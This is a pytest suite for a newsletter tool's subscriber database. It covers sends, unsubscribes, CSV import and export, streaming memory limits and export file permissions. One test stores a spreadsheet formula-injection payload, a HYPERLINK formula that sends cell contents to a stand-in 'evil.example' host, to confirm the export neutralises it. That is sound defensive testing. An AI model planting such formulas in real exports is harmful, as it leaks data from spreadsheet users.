"""The list of subscribers in the database: who a send mails when people join on the web, leave, or are listed
in subscribers.csv; and `digest subscribers import / export / list`."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest

from digest import store
from digest.settings.subscribers import Subscriber
from digest.store.subscribers import kept_over_lists

from helpers.project import WEEK, make_project, next_week

NOW = datetime(2026, 4, 3, 9, 0, tzinfo=UTC)


@pytest.fixture(autouse=True)
def secret(monkeypatch):
    monkeypatch.setenv("DIGEST_UNSUBSCRIBE_SECRET", "a-long-random-secret-for-the-tests")


def db_of(tmp_path: Path):
    return store.open_db(tmp_path / "digest.db")


def add(tmp_path: Path, email: str, status: str, source: str = "form") -> None:
    db = db_of(tmp_path)
    now = store.iso(NOW)
    db.execute(
        "INSERT INTO subscribers (email_key, email, name, status, source, joined_at, updated_at) "
        "VALUES (?, ?, '', ?, ?, ?, ?)",
        [email, email, status, source, now, now],
    )


def test_a_send_mails_who_joined_on_the_web_and_not_who_is_pending(tmp_path, server, run_cli):
    make_project(tmp_path, server.port, [{"email": "ada@example.com", "name": "Ada", "status": "active"}])
    add(tmp_path, "web@example.com", "active")
    add(tmp_path, "pending@example.com", "pending")
    code, out, _ = run_cli("send", "--week", WEEK, "--yes", cwd=tmp_path)
    assert code == 0, out
    assert sorted(message.rcpt for message in server.messages) == ["ada@example.com", "web@example.com"]
    assert "1 pending" in out


def test_an_unsubscribe_in_the_database_wins_over_the_csv(tmp_path, server, run_cli):
    make_project(tmp_path, server.port, [{"email": "ada@example.com", "name": "Ada", "status": "active"}])
    run_cli("unsubscribe", "ADA@example.com", cwd=tmp_path)
    code, out, _ = run_cli("send", "--week", WEEK, "--yes", cwd=tmp_path)
    assert code == 0 and "nobody to mail" in out and not server.messages


def test_the_csv_is_recorded_at_each_send_and_a_deleted_row_is_no_longer_mailed(tmp_path, server, run_cli):
    make_project(
        tmp_path,
        server.port,
        [
            {"email": "ada@example.com", "name": "Ada", "status": "active"},
            {"email": "bob@example.com", "name": "Bob", "status": "active"},
            {"email": "cy@example.com", "name": "Cy", "status": "bounced"},
        ],
    )
    assert run_cli("send", "--week", WEEK, "--yes", cwd=tmp_path)[0] == 0
    rows = {row["email"]: row for row in store.subscriber_list(db_of(tmp_path))}
    assert {email: (row["status"], row["source"], row["name"]) for email, row in rows.items()} == {
        "ada@example.com": ("active", "csv", "Ada"),
        "bob@example.com": ("active", "csv", "Bob"),
        "cy@example.com": ("bounced", "csv", "Cy"),
    }
    (tmp_path / "subscribers.csv").write_text("email,name\nada@example.com,Ada\ncy@example.com,Cy\n", encoding="utf-8")
    server.messages.clear()
    code, out, _ = run_cli("send", "--week", next_week(tmp_path), "--yes", cwd=tmp_path)
    assert code == 0 and [message.rcpt for message in server.messages] == ["ada@example.com"]
    assert "1 no longer in subscribers.csv" in out and "1 bounced" in out  # cy's bounce outlives the file's word


def test_a_web_only_list_needs_no_csv(tmp_path, server, run_cli):
    make_project(tmp_path, server.port, [])
    (tmp_path / "subscribers.csv").unlink()
    add(tmp_path, "web@example.com", "active")
    assert run_cli("send", "--week", WEEK, "--yes", cwd=tmp_path)[0] == 0
    assert [message.rcpt for message in server.messages] == ["web@example.com"]


def test_subscribers_list_and_export_show_the_database(tmp_path, server, run_cli):
    make_project(tmp_path, server.port, [])
    add(tmp_path, "web@example.com", "active")
    add(tmp_path, "left@example.com", "unsubscribed")
    code, out, _ = run_cli("subscribers", "list", cwd=tmp_path)
    assert (
        code == 0
        and "web@example.com: active, joined" in out
        and out.endswith("2 subscriber(s), 1 active, 1 unsubscribed\n")
    )
    code, out, _ = run_cli("subscribers", "list", "--status", "unsubscribed", cwd=tmp_path)
    assert "left@example.com" in out and "web@example.com" not in out
    code, _, err = run_cli("subscribers", "list", "--status", "gone", cwd=tmp_path)
    assert code == 2 and "must be one of" in err
    code, out, _ = run_cli("subscribers", "export", cwd=tmp_path)
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [(row["email"], row["status"], row["source"]) for row in rows] == [
        ("left@example.com", "unsubscribed", "form"),
        ("web@example.com", "active", "form"),
    ]


def test_an_export_imports_back_into_another_database(tmp_path, server, run_cli):
    make_project(tmp_path, server.port, [])
    add(tmp_path, "web@example.com", "active")
    add(tmp_path, "left@example.com", "unsubscribed")
    assert run_cli("subscribers", "export", "--out", str(tmp_path / "out.csv"), cwd=tmp_path)[0] == 0
    other = tmp_path / "other"
    other.mkdir()
    make_project(other, server.port, [])
    add(other, "left@example.com", "active")  # known there, and active: the file's unsubscribe is taken
    code, out, err = run_cli("subscribers", "import", str(tmp_path / "out.csv"), cwd=other)
    assert code == 0, err
    assert "digest format, 2 subscriber(s): 1 added, 1 updated, 0 unchanged" in out
    statuses = {row["email"]: row["status"] for row in store.subscriber_list(db_of(other))}
    assert statuses == {"web@example.com": "active", "left@example.com": "unsubscribed"}


def test_who_left_the_csv_is_pending_and_may_come_back_through_the_form(tmp_path, server, run_cli):
    from digest.web.signup import request_subscription

    make_project(tmp_path, server.port, "email\nada@example.com\nbob@example.com\n")
    assert run_cli("send", "--week", WEEK, "--yes", cwd=tmp_path)[0] == 0
    (tmp_path / "subscribers.csv").write_text("email\nbob@example.com\n", encoding="utf-8")
    assert run_cli("send", "--week", next_week(tmp_path), "--yes", cwd=tmp_path)[0] == 0
    db = db_of(tmp_path)
    ada = {row["email"]: row for row in store.subscriber_list(db)}["ada@example.com"]
    assert (ada["status"], ada["status_detail"]) == ("pending", "no longer in the csv list")
    assert request_subscription(db, "ada@example.com", "", NOW, per_day=3)  # a confirmation mail goes out
    store.record_subscribers(db, [Subscriber("ada@example.com")], "csv", NOW, whole=True)
    assert {row["email"]: row["status"] for row in store.subscriber_list(db)} == {
        "ada@example.com": "active",  # listed again: mailed again
        "bob@example.com": "pending",  # this list left bob out
    }


def test_an_export_cannot_smuggle_a_formula_into_a_spreadsheet_and_imports_back_intact(tmp_path, server, run_cli):
    make_project(tmp_path, server.port, [])
    db = db_of(tmp_path)
    now = store.iso(NOW)
    hostile = '=HYPERLINK("https://evil.example/?d="&A2,"Click")'
    db.execute(
        "INSERT INTO subscribers (email_key, email, name, status, source, joined_at, updated_at) "
        "VALUES ('+1-1+cmd@example.net', '+1-1+cmd@example.net', ?, 'pending', 'form', ?, ?)",
        [hostile, now, now],
    )
    code, out, _ = run_cli("subscribers", "export", cwd=tmp_path)
    assert code == 0
    row = next(csv.DictReader(io.StringIO(out)))
    assert row["email"] == "'+1-1+cmd@example.net" and row["name"] == "'" + hostile
    (tmp_path / "out.csv").write_text(out, encoding="utf-8")
    other = tmp_path / "other"
    other.mkdir()
    make_project(other, server.port, [])
    assert run_cli("subscribers", "import", str(tmp_path / "out.csv"), cwd=other)[0] == 0
    imported = next(store.subscriber_list(db_of(other)))
    assert (imported["email"], imported["name"]) == ("+1-1+cmd@example.net", hostile)


def test_a_stale_csv_row_does_not_undo_a_later_web_confirmation_but_an_unsubscribe_does(tmp_path, server, run_cli):
    from digest.web.signup import ConfirmToken, confirm, request_subscription

    make_project(tmp_path, server.port, "email,status\nada@example.com,unsubscribed\nbob@example.com,active\n")
    assert run_cli("send", "--week", WEEK, "--yes", cwd=tmp_path)[0] == 0
    assert [message.rcpt for message in server.messages] == ["bob@example.com"]
    db = db_of(tmp_path)
    later = datetime.now(UTC)  # after the send recorded the csv's unsubscribe
    assert request_subscription(db, "ada@example.com", "Ada", later, per_day=3)
    assert confirm(db, ConfirmToken("ada@example.com", later), later) == "confirmed"
    server.messages.clear()
    code, _, _ = run_cli("send", "--week", next_week(tmp_path), "--yes", cwd=tmp_path)
    assert code == 0 and sorted(message.rcpt for message in server.messages) == ["ada@example.com", "bob@example.com"]
    ada = {row["email"]: row for row in store.subscriber_list(db)}["ada@example.com"]
    assert (ada["status"], ada["source"]) == ("active", "form")
    # her own unsubscribe always wins, and the csv's row cannot bring her back
    assert run_cli("unsubscribe", "ada@example.com", cwd=tmp_path)[0] == 0
    changes = store.record_subscribers(db, [Subscriber("ada@example.com")], "csv", datetime.now(UTC), whole=True)
    assert changes.kept == {"unsubscribed": 1}
    assert {row["email"]: row["status"] for row in store.subscriber_list(db)}["ada@example.com"] == "unsubscribed"


def test_a_list_keeps_a_web_confirmed_subscriber_active_and_says_so(tmp_path):
    db = db_of(tmp_path)
    now = store.iso(NOW)
    db.execute(
        "INSERT INTO subscribers (email_key, email, name, status, source, joined_at, consent_at, updated_at) "
        "VALUES ('web@example.com', 'web@example.com', '', 'active', 'form', ?, ?, ?)",
        [now, now, now],
    )
    add(tmp_path, "plain@example.com", "active", source="form")  # no consent recorded: the list's word is taken
    listed = [Subscriber("web@example.com", status="bounced"), Subscriber("plain@example.com", status="unsubscribed")]
    assert kept_over_lists(db) == {"web@example.com": "active"}
    changes = store.record_subscribers(db, listed, "import", NOW)
    assert changes.kept == {"active": 1} and changes.updated == 1
    statuses = {row["email"]: row["status"] for row in store.subscriber_list(db)}
    assert statuses == {"web@example.com": "active", "plain@example.com": "unsubscribed"}
    # what a send's plan keeps over subscribers.csv's rows: the same rule
    assert kept_over_lists(db) == {"web@example.com": "active", "plain@example.com": "unsubscribed"}


def fill(db, count: int) -> None:
    now = store.iso(NOW)
    statuses = ("active", "active", "pending", "unsubscribed")
    db.conn.executemany(
        "INSERT INTO subscribers (email_key, email, name, status, source, joined_at, updated_at) "
        "VALUES (?, ?, ?, ?, 'import', ?, ?)",
        (
            (f"reader{n:06d}@example.com", f"reader{n:06d}@example.com", f"Reader {n}", statuses[n % 4], now, now)
            for n in range(count)
        ),
    )
    db.conn.commit()


def peak_of(tmp_path: Path, monkeypatch, *args: str) -> tuple[int, str]:
    """The most memory `digest --db ... ARGS` held (traced), and what it printed (to a file, not memory)."""
    import sys
    import tracemalloc

    from digest.cli import app

    out = tmp_path / "out.txt"
    with out.open("w", encoding="utf-8") as stream:
        monkeypatch.setattr(sys, "stdout", stream)
        tracemalloc.start()
        try:
            app(["--db", str(tmp_path / "digest.db"), *args], standalone_mode=False)
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
    return peak, out.read_text(encoding="utf-8")


@pytest.mark.parametrize("as_json", [True, False])
def test_subscribers_list_streams_a_hundred_thousand_rows(tmp_path, monkeypatch, as_json):
    """At a million subscribers `list --json` held 2.39 GB and `list` 735 MB: each row is written as it is read
    (100,000 rows: 218 MB and 64 MB before, 2.2 MB and 0.4 MB since)."""
    import json

    fill(db_of(tmp_path), 100_000)
    peak, text = peak_of(tmp_path, monkeypatch, "subscribers", "list", *(["--json"] if as_json else []))
    if as_json:
        rows = json.loads(text)
        assert len(rows) == 100_000 and rows[0]["email"] == "reader000000@example.com"
        assert rows[1] == json.loads(json.dumps(rows[1])) and rows[2]["status"] == "pending"
    else:
        assert text.endswith("100000 subscriber(s), 50000 active, 25000 pending, 25000 unsubscribed\n")
        assert text.startswith("reader000000@example.com (Reader 0): active, joined ")
    assert peak < 8 * 2**20, f"peak {peak / 2**20:.1f} MB"


def test_subscribers_export_to_a_file_streams_too(tmp_path, monkeypatch):
    fill(db_of(tmp_path), 100_000)
    out = tmp_path / "export.csv"
    peak, _ = peak_of(tmp_path, monkeypatch, "subscribers", "export", "--out", str(out))
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert len(rows) == 100_000 and rows[-1]["email"] == "reader099999@example.com"
    assert peak < 8 * 2**20, f"peak {peak / 2**20:.1f} MB"
    assert (out.stat().st_mode & 0o777) == 0o600  # addresses: readable by their owner only
    assert [path.name for path in tmp_path.iterdir() if path.name.startswith(".")] == []  # no temporary left


@pytest.mark.parametrize("out", ["digest.db/export.csv", "."])
def test_an_export_that_cannot_be_written_is_one_line_naming_out(tmp_path, run_cli, out):
    fill(db_of(tmp_path), 3)
    code, _, err = run_cli("--db", str(tmp_path / "digest.db"), "subscribers", "export", "--out", out, cwd=tmp_path)
    assert code == 2 and err.startswith(f"error: --out {out}: cannot write there: ") and len(err.splitlines()) == 1
    assert not [path.name for path in tmp_path.iterdir() if not path.name.startswith("digest.db")]
